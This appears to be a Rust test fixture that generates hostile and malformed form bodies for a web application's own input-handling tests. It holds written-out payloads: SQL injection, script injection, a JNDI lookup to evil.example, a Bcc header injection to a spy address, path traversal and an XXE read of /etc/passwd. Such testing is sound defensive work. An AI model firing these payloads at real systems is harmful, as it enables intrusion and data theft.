//! Sixty bodies that no form of ours sends.

const FORM: &str = "application/x-www-form-urlencoded";

pub struct Body {
    pub name: String,
    pub kind: &'static str,
    pub bytes: Vec<u8>,
}

/// Every name of a field that some form has.
const FIELDS: [&str; 9] =
    ["name", "email", "password", "current", "nation", "next", "sequence", "choice", "clear"];

/// What stands in a field when the hostile thing stands in another.
fn innocent(field: &str) -> &'static str {
    match field {
        "name" => "Nia Evans",
        "email" => "nia@aberwyvern.example",
        "password" | "current" => "violet-harbour-lantern",
        "nation" => "wales",
        "next" => "/account",
        "sequence" => "0",
        "choice" => "a",
        _ => "",
    }
}

/// Values as they are typed, to be percent-encoded.
const VALUES: [&str; 30] = [
    "' OR '1'='1",
    "'; DROP TABLE people; --",
    "\" UNION SELECT phc FROM credentials --",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "{{#each this}}{{this}}{{/each}}",
    "{{{body}}} {{> _layout}}",
    "%s%s%s%n%x",
    "{0} {} ${jndi:ldap://evil.example/a} #{7*7}",
    "a\r\nX-Injected: 1\r\n\r\n<script>",
    "nia@aberwyvern.example\r\nBcc: spy@evil.example",
    "//evil.example",
    "https://evil.example/",
    "/\\evil.example",
    "/a\u{1}b",
    "/é/ŵ",
    "/\u{7f}",
    "javascript:alert(1)",
    "../../../etc/passwd",
    "-1",
    "9223372036854775807",
    "-9223372036854775808",
    "99999999999999999999999999",
    "1e400",
    "NaN",
    "\u{202e}elims\u{200b}\u{feff}",
    "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁷󠁬󠁳󠁿",
    "\u{10ffff}\u{e000}\u{fffd}",
    "\t \u{a0}\u{3000}\u{2028}",
];

/// Bodies as they are, whatever the fields are called.
fn shapes() -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let long = |unit: &str, times| unit.repeat(times).into_bytes();
    vec![
        ("nothing", FORM, vec![]),
        ("nothing of no type", "", vec![]),
        ("one byte", FORM, b"=".to_vec()),
        ("only ampersands", FORM, long("&", 60_000)),
        ("only equals signs", FORM, long("=", 60_000)),
        ("too much", FORM, long("a", 70_000)),
        ("far too much", FORM, long("name=a&", 300_000)),
        ("a value of 60 kB", FORM, [b"name=".to_vec(), long("a", 60_000)].concat()),
        ("a name of 60 kB", FORM, [long("a", 60_000), b"=1".to_vec()].concat()),
        ("very many fields", FORM, long("a=1&", 10_000)),
        ("malformed UTF-8", FORM, b"name=\xff\xfe\xfd".to_vec()),
        ("an overlong slash", FORM, b"name=\xc0\xaf".to_vec()),
        ("half a surrogate", FORM, b"name=%ED%A0%80".to_vec()),
        ("malformed UTF-8 in percents", FORM, b"name=%FF%FE".to_vec()),
        ("a NUL", FORM, b"name=\0&email=a\0b".to_vec()),
        ("a NUL in percents", FORM, b"name=%00&email=a%00b&password=%00".to_vec()),
        ("broken percents", FORM, b"name=%&email=%zz&password=%1&sequence=%%%".to_vec()),
        ("duplicate keys", FORM, b"name=a&name=b&email=a@b.uk&email=c@d.uk&sequence=1&sequence=2".to_vec()),
        ("many choices", FORM, long("choice=a&", 250)),
        ("brackets", FORM, b"name[]=a&name[0]=b&email[x][y]=c&choice[]=a".to_vec()),
        ("fields that are not asked", FORM, b"is_administrator=1&person=1&role=administrator&id=1".to_vec()),
        ("JSON", "application/json", br#"{"name":"a","email":{"$ne":null},"sequence":1e999}"#.to_vec()),
        ("JSON that says it is a form", FORM, br#"{"name":"a","email":["b"]}"#.to_vec()),
        ("deep JSON", "application/json", long("[", 50_000)),
        (
            "multipart",
            "multipart/form-data; boundary=x",
            b"--x\r\nContent-Disposition: form-data; name=\"name\"; filename=\"a\"\r\n\r\nb\r\n--x--".to_vec(),
        ),
        ("multipart without a boundary", "multipart/form-data", b"--x".to_vec()),
        (
            "XML",
            "application/xml",
            br#"<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>"#.to_vec(),
        ),
        ("a type that is no type", "///;;;", b"name=a".to_vec()),
        ("another alphabet", "application/x-www-form-urlencoded; charset=utf-16", b"\xff\xfen\0a\0".to_vec()),
        ("compressed bytes", FORM, b"\x1f\x8b\x08\x00\x00\x00\x00\x00".to_vec()),
    ]
}

fn encoded(value: impl Fn(&str) -> String) -> Vec<u8> {
    let pairs: Vec<(&str, String)> = FIELDS.iter().map(|field| (*field, value(field))).collect();
    let pairs: Vec<(&str, &str)> = pairs.iter().map(|(f, v)| (*f, v.as_str())).collect();
    crate::kit::call::encoded(&pairs).into_bytes()
}

/// All of them: the shapes; each value in every field at once; and some values in each field alone,
/// so that they come further.
pub fn bodies() -> Vec<Body> {
    let shapes = shapes().into_iter();
    let mut all: Vec<Body> =
        shapes.map(|(name, kind, bytes)| Body { name: name.to_owned(), kind, bytes }).collect();
    for value in VALUES {
        let bytes = encoded(|_| value.to_owned());
        all.push(Body { name: format!("{value:?} everywhere"), kind: FORM, bytes });
    }
    for alone in FIELDS {
        for value in [VALUES[1], VALUES[3], VALUES[9], VALUES[14], VALUES[15], VALUES[21]] {
            let at = |field: &str| if field == alone { value } else { innocent(field) }.to_owned();
            let name = format!("{value:?} in {alone}");
            all.push(Body { name, kind: FORM, bytes: encoded(at) });
        }
    }
    all
}
